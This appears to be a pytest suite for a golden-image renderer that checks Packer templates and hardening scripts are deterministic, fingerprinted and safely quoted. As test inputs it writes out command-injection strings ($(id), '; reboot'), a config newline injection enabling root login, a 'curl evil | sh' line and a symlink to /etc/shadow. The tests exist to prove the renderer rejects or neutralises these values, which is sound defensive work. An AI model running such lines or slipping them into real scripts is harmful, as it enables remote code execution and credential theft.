"""Rendering: deterministic, fingerprinted, atomic, and quoting every value it emits."""
import json
import re
import shutil
import subprocess

import jinja2
import pytest

from golden_ami import catalogue, config, render
from golden_ami.errors import UserError
from golden_ami.layout import SHELL_LIBRARY
from tests.conftest import site_overrides

LOCAL_SOURCE = render.SourceImage(id="sha256:" + "1" * 64, name="base", location="/images/base.qcow2",
                                  checksum="sha256:" + "1" * 64)
AWS_SOURCE = render.SourceImage(id="ami-0123456789abcdef0", name="debian-12-amd64-20261101", location="us-east-1")


def _render(tmp_path, name, os_name="debian12", target="local", source=LOCAL_SOURCE, **kw):
    kw["overrides"] = site_overrides(**kw.get("overrides") or {})
    return render.render(config.resolve(os_name, target, **kw), source, tmp_path / name)


def test_rendering_twice_gives_identical_bytes(state_dir, tmp_path):
    first = _render(tmp_path, "a")
    second = _render(tmp_path, "b")
    assert first.fingerprint == second.fingerprint
    files_a = {p.relative_to(first.directory): p.read_bytes() for p in first.directory.rglob("*") if p.is_file()}
    files_b = {p.relative_to(second.directory): p.read_bytes() for p in second.directory.rglob("*") if p.is_file()}
    assert files_a == files_b


def test_fingerprint_covers_the_source_image_and_every_byte(state_dir, tmp_path):
    base = _render(tmp_path, "base")
    other_source = _render(tmp_path, "src", source=render.SourceImage(**{**LOCAL_SOURCE.as_dict(), "id": "sha256:" + "2" * 64}))
    assert other_source.fingerprint != base.fingerprint
    # One changed byte in a rendered file changes the fingerprint load_render recomputes.
    script = base.directory / "scripts" / "30-ssh.sh"
    script.write_text(script.read_text() + "\n")
    manifest, recomputed = render.load_render(base.directory)
    assert manifest["fingerprint"] == base.fingerprint != recomputed


def test_build_directory_layout(state_dir, tmp_path):
    result = _render(tmp_path, "out", overrides={"profile": "baseline"})
    names = sorted(str(p.relative_to(result.directory)) for p in result.directory.rglob("*") if p.is_file())
    assert "template.pkr.hcl" in names and "variables.pkrvars.json" in names and "controls.json" in names
    assert [n for n in names if n.startswith("scripts/")] == [
        "scripts/10-patching.sh", "scripts/15-reboot-if-kernel-changed.sh", "scripts/20-firewall.sh",
        "scripts/30-ssh.sh", "scripts/40-agents.sh", "scripts/90-image-hygiene.sh"]
    # The default profile adds the CIS sections, in number order, before the clean-up.
    cis = _render(tmp_path, "cis")
    scripts = sorted(p.name for p in (cis.directory / "scripts").iterdir())
    assert scripts[-1] == "90-image-hygiene.sh" and "56-cis-audit.sh" in scripts and len(scripts) > 10
    assert "files/nftables.conf" in names and "files/sshd-hardening.conf" in names
    assert json.loads((result.directory / "render.json").read_text())["fingerprint"] == result.fingerprint
    # The aws target adds the agents' section and their configuration.
    aws = _render(tmp_path, "aws", target="aws", source=AWS_SOURCE)
    assert (aws.directory / "scripts" / "41-aws-agents.sh").is_file()
    assert (aws.directory / "files" / "cloudwatch" / "amazon-cloudwatch-agent.json").is_file()
    json.loads((aws.directory / "files" / "cloudwatch" / "amazon-cloudwatch-agent.json").read_text())


@pytest.mark.parametrize("profile", catalogue.PROFILES)
def test_every_applicable_control_id_appears_in_the_rendered_remediation(state_dir, tmp_path, profile):
    for os_name in config.available_os():
        for target, source in (("local", LOCAL_SOURCE), ("aws", AWS_SOURCE)):
            result = _render(tmp_path, f"{os_name}-{target}", os_name, target, source,
                             overrides={"profile": profile})
            controls = json.loads((result.directory / "controls.json").read_text())["controls"]
            text = "\n".join(p.read_text() for p in result.directory.rglob("*") if p.is_file()
                             and (p.parts[-2] in ("scripts", "files", "apt", "dnf", "chrony", "cloudwatch")
                                  or p.name == "template.pkr.hcl"))
            for control in controls:
                if control["applicable"]:
                    assert re.search(rf"CONTROL {re.escape(control['id'])}\b", text), (os_name, target, control["id"])


def test_render_refuses_a_non_empty_output_directory_and_leaves_nothing_on_failure(state_dir, tmp_path, monkeypatch):
    out = tmp_path / "busy"
    out.mkdir()
    (out / "keep").write_text("x")
    with pytest.raises(UserError, match="not empty"):
        render.render(config.resolve("debian12"), LOCAL_SOURCE, out)

    def broken(*args, **kwargs):
        raise jinja2.TemplateError("boom")

    monkeypatch.setattr(render, "hcl_env", broken)
    with pytest.raises(UserError, match="render failed"):
        render.render(config.resolve("debian12"), LOCAL_SOURCE, tmp_path / "new")
    assert not (tmp_path / "new").exists()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".new")]


HOSTILE = "$(touch PWNED); `touch PWNED2`; echo 'quoted' \"double\" & | > x"


def test_render_refuses_an_out_that_is_a_file_or_under_one(state_dir, tmp_path):
    afile = tmp_path / "afile"
    afile.write_text("keep me")
    with pytest.raises(UserError, match="is a file, not a directory"):
        render.render(config.resolve("debian12"), LOCAL_SOURCE, afile)
    with pytest.raises(UserError, match="cannot make"):
        render.render(config.resolve("debian12"), LOCAL_SOURCE, afile / "out")
    assert afile.read_text() == "keep me" and sorted(p.name for p in tmp_path.iterdir()) == ["afile"]


@pytest.mark.parametrize("manifest, needle", [
    ("{bad", "JSONDecodeError"), ("[1]", "TypeError"), ('{"os": "debian12", "target": "local"}', "source_image"),
    ('{"source_image": {"id": "x", "name": "y"}}', "'os'"),
])
def test_a_damaged_render_manifest_is_one_line_naming_the_file(tmp_path, manifest, needle):
    (tmp_path / "render.json").write_text(manifest)
    with pytest.raises(UserError, match="render.json is not a render manifest") as raised:
        render.load_render(tmp_path)
    assert needle in str(raised.value)


def test_the_quoting_walls_of_shell_snippets_and_sudoers_hold_for_any_value(tmp_path):
    hostile = "027'; reboot; echo \"$(id)\" \\"
    echoed = subprocess.run(["bash", "-c", f"printf %s {render.shell_word(hostile)}"], capture_output=True, text=True)
    assert echoed.stdout == hostile
    assert render.sudoers_string('/var/log/su"do\\.log') == '"/var/log/su\\"do\\\\.log"'


def test_no_param_may_read_as_an_option_and_package_lists_end_the_options(state_dir, tmp_path):
    user = tmp_path / "c.yaml"
    user.write_text("controls:\n  '4.3.3':\n    params:\n      logfile: --version\n")
    with pytest.raises(UserError, match="not starting with -"):
        render.render(config.resolve("debian12", "local", str(user)), LOCAL_SOURCE, tmp_path / "refused")
    result = _render(tmp_path, "dashes")
    scripts = "".join(p.read_text() for p in [*(result.directory / "scripts").rglob("*.sh"),
                                               result.directory / SHELL_LIBRARY])
    assert re.search(r"(apt-get|dnf)[^\n]* (install|purge|remove)( --no-install-recommends)? \"", scripts) is None
    assert 'purge -- "${present[@]}"' in scripts


def test_a_directory_to_build_from_must_be_what_was_rendered_for_this_os(state_dir, tmp_path):
    cfg = config.resolve("debian12", "local")
    result = _render(tmp_path, "rendered")
    manifest, fingerprint, source = render.load_for_build(result.directory, cfg)
    assert fingerprint == result.fingerprint and source == LOCAL_SOURCE
    with pytest.raises(UserError, match="was rendered for debian12/local, not al2023/local"):
        render.load_for_build(result.directory, config.resolve("al2023", "local"))
    script = result.directory / "scripts" / "30-ssh.sh"
    original = script.read_text()
    script.write_text(original + "curl evil | sh\n")
    with pytest.raises(UserError, match="no longer hashes to the fingerprint in its render.json"):
        render.load_for_build(result.directory, cfg)
    script.write_text(original)
    (result.directory / "files" / "shadow").symlink_to("/etc/shadow")
    with pytest.raises(UserError, match="files/shadow is a symbolic link"):
        render.load_for_build(result.directory, cfg)
    with pytest.raises(UserError, match="is not a directory"):
        render.load_for_build(tmp_path / "nowhere", cfg)


def test_shell_templates_quote_every_value_so_it_arrives_literally(tmp_path):
    env = render.shell_env()
    template = env.from_string('#!/bin/bash\nvalue={{ value }}\nprintf "%s\\n" "$value"\nprintf "%s\\n" {{ words|shell_join }}\n')
    script = tmp_path / "t.sh"
    script.write_text(template.render(value=HOSTILE, words=["a b", "$(id)"]))
    out = subprocess.run(["bash", str(script)], cwd=tmp_path, capture_output=True, text=True, check=True).stdout
    assert out.splitlines() == [HOSTILE, "a b", "$(id)"]
    assert not list(tmp_path.glob("PWNED*"))


def test_shell_templates_refuse_unquoted_lists_and_unsafe_raw(tmp_path):
    env = render.shell_env()
    with pytest.raises(jinja2.TemplateError):
        env.from_string("x={{ items }}").render(items=["a", "b"])
    with pytest.raises(jinja2.TemplateError):
        env.from_string("x={{ v|raw_shell }}").render(v="$(id)")
    with pytest.raises(jinja2.UndefinedError):
        env.from_string("x={{ misspelt }}").render()


def test_config_files_refuse_values_with_newlines():
    env = render.config_env()
    with pytest.raises(jinja2.TemplateError):
        env.from_string("Banner {{ v }}").render(v="x\nPermitRootLogin yes")


def test_hcl_strings_escape_template_sequences():
    assert render.hcl_string('a${var.x}%{if}"') == '"a$${var.x}%%{if}\\""'


def test_scripts_start_strict(state_dir, tmp_path):
    result = _render(tmp_path, "strict")
    for script in (result.directory / "scripts").iterdir():
        lines = script.read_text().splitlines()
        assert lines[0] == "#!/bin/bash"
        assert "set -o errexit -o nounset -o pipefail" in lines[:10]


@pytest.mark.skipif(shutil.which("bash") is None, reason="bash is part of every supported machine")
def test_rendered_scripts_parse_as_bash(state_dir, tmp_path):
    result = _render(tmp_path, "parse")
    for script in (result.directory / "scripts").iterdir():
        subprocess.run(["bash", "-n", str(script)], check=True)


def test_templates_fit_the_packer_dialect(state_dir, tmp_path):
    import hcl2

    legacy = render.render(config.resolve("debian12", "aws"), AWS_SOURCE, tmp_path / "legacy", packer_plugins=False)
    plugins = render.render(config.resolve("debian12", "aws"), AWS_SOURCE, tmp_path / "plugins", packer_plugins=True)
    parsed_legacy = hcl2.loads((legacy.directory / "template.pkr.hcl").read_text())
    parsed_plugins = hcl2.loads((plugins.directory / "template.pkr.hcl").read_text())
    assert "required_plugins" not in json.dumps(parsed_legacy["packer"])
    assert "github.com/hashicorp/amazon" in json.dumps(parsed_plugins["packer"])
    source = parsed_plugins["source"][0]['"amazon-ebs"']['"golden"']
    assert source["imds_support"] == '"v2.0"' or source["imds_support"] == "v2.0"
    assert "metadata_options" in source
    assert legacy.fingerprint != plugins.fingerprint
    local = render.render(config.resolve("debian12", "local"), LOCAL_SOURCE, tmp_path / "qemu", packer_plugins=True)
    assert "github.com/hashicorp/qemu" in (local.directory / "template.pkr.hcl").read_text()
